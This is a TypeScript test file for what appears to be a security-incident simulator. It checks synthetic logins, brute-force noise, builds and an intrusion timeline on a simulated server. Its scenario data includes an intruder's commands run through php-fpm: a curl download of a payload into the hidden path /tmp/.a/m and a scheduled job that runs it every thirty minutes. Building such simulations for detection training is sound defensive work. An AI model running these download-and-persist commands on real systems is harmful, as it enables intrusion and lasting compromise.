import { describe, expect, test } from 'vitest';
import type { Deed, Happening } from '../../model/machine-simulation.ts';
import { parseScenario } from '../scenario.ts';
import { stageMachines } from './stage-machines.ts';
import { trueMachine } from './true-machine.ts';

const text = `
title: a fortnight
organisation: { name: example, domain: example.com }
# A Monday; the machine is five hours behind UTC.
start: 2026-03-02T00:00:00Z
days: 14
machines:
  one:
    name: app-1
    cores: 4
    privateAddress: 10.0.0.7
    offsetMinutes: -300
    seenBy: [linux.auth]
    life:
      developers: [dev]
      visitsPerDay: 2
      builds: { user: runner, uid: 998, folder: /srv/work, perDay: 4, minutes: 30, cpu: 90, command: make all, compiler: /usr/lib/gcc/cc1 }
      noise: { addresses: 20, attemptsPerDay: 50, networks: [203.0.113], users: [admin, test] }
people:
  dev: { user: dev, uid: 1000, key: { type: ED25519, name: dev }, from: [198.51.100.7], side: owner }
  app: { user: www-data, uid: 33, side: intruder }
  soc: { user: root, uid: 0, side: responder }
acts:
  - { at: '9 03:00:00', by: app, machine: one, runs: "sh -c 'id'", parent: /usr/sbin/php-fpm }
  - { at: '9 03:00:20', by: app, machine: one, runs: curl -o /tmp/.a/m http://files.example.net/m, parent: /usr/sbin/php-fpm }
  - { at: '9 03:01:00', by: app, machine: one, setsTimetable: { for: www-data, everyMinutes: 30, runs: /tmp/.a/m } }
  - { at: '9 06:00:00', by: soc, machine: one, isStopped: true }
`;

function played(source = text) {
  const file = parseScenario(source, 'test');
  if (file.is !== 'scenario') throw new Error('no scenario');
  const [machine] = stageMachines(file.scenario, { seed: 'test', scale: 1, madeBy: () => null });
  if (!machine) throw new Error('no machine');
  return machine;
}

const machine = played();
const of = <Is extends Deed['is']>(is: Is, happenings: readonly Happening[] = machine.happenings) =>
  happenings.flatMap(({ time, deed }) => (deed.is === is ? [{ time, ...(deed as Extract<Deed, { is: Is }>) }] : []));
const clock = (time: number): Date => new Date(time - 5 * 3_600_000);

describe('ordinary life', () => {
  test('developers come on working days, in the hours of their own clock', () => {
    const visits = of('sign-in').filter(({ outcome }) => outcome === 'accepted');
    expect(visits).toHaveLength(2 * 6);
    for (const { time } of visits) {
      expect(clock(time).getUTCDay() % 6).not.toBe(0);
      expect(clock(time).getUTCHours()).toBeGreaterThanOrEqual(8);
      expect(clock(time).getUTCHours()).toBeLessThan(17);
    }
  });

  test('passwords are guessed day and night, from many addresses, and none is right', () => {
    // A developer's slip of the fingers looks like one, from his own address.
    const guesses = of('sign-in').filter(({ method, from }) => method === 'password' && from !== '198.51.100.7');
    expect(guesses.length).toBeGreaterThan(7 * 45);
    expect(new Set(guesses.map(({ time }) => clock(time).getUTCHours())).size).toBe(24);
    expect(new Set(guesses.map(({ from }) => from)).size).toBe(20);
    expect(guesses.every(({ outcome }) => outcome !== 'accepted')).toBe(true);
  });

  test('a build takes the processor for its time', () => {
    const [build] = of('process').filter(({ process }) => process.arguments[0] === 'make');
    const at = (minutes: number): number =>
      of('measure').find(({ metric, time }) => metric === 'cpu' && time > (build?.time ?? 0) + minutes * 60_000)
        ?.value ?? 0;
    expect(at(-5)).toBeLessThan(10);
    expect(at(5)).toBeGreaterThan(85);
  });

  test('nothing happens on a machine that is gone', () => {
    expect(machine.happenings.at(-1)?.time).toBeLessThan(Date.UTC(2026, 2, 10, 6));
  });

  test('no two things happen in one millisecond, and every process has its own number', () => {
    expect(new Set(machine.happenings.map(({ time }) => time)).size).toBe(machine.happenings.length);
    const pids = of('process').map(({ process }) => process.pid);
    expect(new Set(pids).size).toBe(pids.length);
  });
});

describe('a service that is made to run something', () => {
  test('is the parent of all of it, and the door', () => {
    const [first, second] = of('process').filter(({ by }) => by.user === 'www-data');
    expect(first?.process.parent).toMatchObject({ executable: '/usr/sbin/php-fpm', name: 'php-fpm' });
    expect(second?.process.parent).toEqual(first?.process.parent);
    expect(trueMachine(machine)).toMatchObject({
      door: { time: '2026-03-10T03:00:00Z', user: 'www-data', address: null, method: '/usr/sbin/php-fpm' },
      first_seen: '2026-03-10T03:00:00Z',
      last_seen: '2026-03-10T05:30:01Z',
    });
  });

  test('what its timetable runs is counted as one program', () => {
    expect(trueMachine(machine).processes.find(({ command }) => command === '/tmp/.a/m')).toMatchObject({ count: 5 });
  });
});

test('a machine that a call made has its id', () => {
  const file = parseScenario(text.replace('name: app-1', "name: app-1\n    uid: '${made.server}'"), 'test');
  if (file.is !== 'scenario') throw new Error('no scenario');
  const stage = (madeBy: (name: string) => string | null) =>
    stageMachines(file.scenario, { seed: 'test', scale: 0, madeBy });
  expect(stage((name) => `id-of-${name}`)[0]?.machine.uid).toBe('id-of-server');
  expect(() => stage(() => null)).toThrow("nothing called 'server' was made");
});

test('who is gone does nothing any longer', () => {
  expect(() => played(`${text}  - { at: '9 07:00:00', by: soc, machine: one, runs: id }\n`)).toThrow(/gone by then/);
});
